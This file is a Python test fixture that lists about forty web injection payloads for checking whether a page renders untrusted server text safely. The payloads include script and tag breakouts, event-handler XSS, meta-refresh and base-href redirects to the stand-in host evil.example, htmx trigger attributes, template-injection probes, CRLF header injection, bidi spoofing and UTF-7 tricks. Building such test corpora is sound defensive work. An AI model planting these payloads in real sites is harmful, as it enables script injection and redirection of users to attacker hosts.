"""What a hostile server would put into its words, so that a page obeys them: forty ways, each told from the others."""

CALL = "/pwned"  # what a payload asks of us, if anything is asked
AWAY = "https://evil.example/pwned"

_BREAKOUTS = [
    "</script><script>pwned=1;document.title='pwned'</script>",
    "</textarea><script>pwned=1</script>",
    "</title><script>document.title='pwned'</script>",
    "</pre></details><img src=/pwned onerror=pwned=1>",
    '"><script src=/pwned></script>',
    "'><img src='/pwned' onerror='alert(1)'>",
    '" autofocus onfocus=alert(1) x="',
    "--><!--><svg onload=alert(1)>",
    "</style><style>@import '/pwned';</style>",
    "</select></form><form action=/pwned method=post><button autofocus>Sign in</button></form>",
    "</hx-partial><hx-partial hx-target='main' hx-swap='innerHTML'><h1>pwned</h1></hx-partial>",
    "</span></p></li></ol><div id=poll hx-get=/pwned hx-trigger=load></div>",
]
_ELEMENTS = [
    "<script>alert(1)</script>",
    f"<script src={AWAY}></script>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    f"<svg><image href={AWAY}></image><use href='/pwned#x'/></svg>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    '<meta name=htmx-config content=\'{"mode":"cors"}\'>',
    f"<base href={AWAY}/>",
    f"<iframe srcdoc='<script>parent.pwned=1</script>' src={AWAY}></iframe>",
    "<object data=/pwned></object><embed src=/pwned>",
    f"<style>@import url({AWAY}); *{{background:url(/pwned)}}</style>",
    "<b style='position:fixed;inset:0;background:url(/pwned)'>over everything</b>",
    f"<link rel=prefetch href=/pwned><link rel=stylesheet href={AWAY}><link rel=dns-prefetch href=//evil.example>",
    "<img src=/pwned srcset='/pwned 2x' loading=eager>",
    f"<video autoplay poster=/pwned><source src={AWAY}></video>",
    f"<a href={AWAY} ping=/pwned>Open run 2</a>",
    "<a href='javascript:alert(1)'>Open run 2</a> javascript:alert(1)",
    "<iframe src='data:text/html,<script>alert(1)</script>'></iframe>",
    "<math><mtext><table><mglyph><style><img src=/pwned onerror=alert(1)>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
]
_HTMX = [
    "<i hx-post=/pwned hx-trigger=load>x</i>",
    "<i data-hx-get=/pwned data-hx-trigger='load, every 1s'></i>",
    "<i hx-on:load='alert(1)' hx-on::init='alert(1)' hx-trigger=load hx-get=/pwned hx-vals='js:{x: alert(1)}'></i>",
    "<i hx-ext=place hx-get=/pwned hx-trigger=revealed hx-swap=outerHTML hx-target=body></i>",
    "<form hx-boost=true action=/pwned><button id=sync>Sync</button></form>",
]
_TEXTS = [
    "{{7*7}} {% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %} ${7*7} #{7*7} <%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#x3c;img src=/pwned&#x3e; &amp;#60;",
    "\x1b[2J\x1b]0;pwned\x07\x1b]8;;https://evil.example\x1b\\here\x1b]8;;\x1b\\ \x9b31m",
    "safe\u202egnp.exe\u202c \u2066<b>\u2069 \u200f\u061cinvoice",
    "\u05e9\u05dc\u05d5\u05dd \u0627\u0644\u0639\u0631\u0628\u064a\u0629 <b onclick=alert(1)>",
    "nul\x00<scr\x00ipt>alert(1)</scr\x00ipt>\x00",
    "<" * 60 + "W" * 120,
    "line\r\nHTTP/1.1 200 OK\r\nSet-Cookie: pwned=1\u2028\u2029\x0b\x0c\x85next",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4- \ufeff\ufffe\uffff \U0001f600",
]
PAYLOADS = [*_BREAKOUTS, *_ELEMENTS, *_HTMX, *_TEXTS]


def payload(number: int) -> str:
    """One after the other, and round again."""
    return PAYLOADS[number % len(PAYLOADS)]
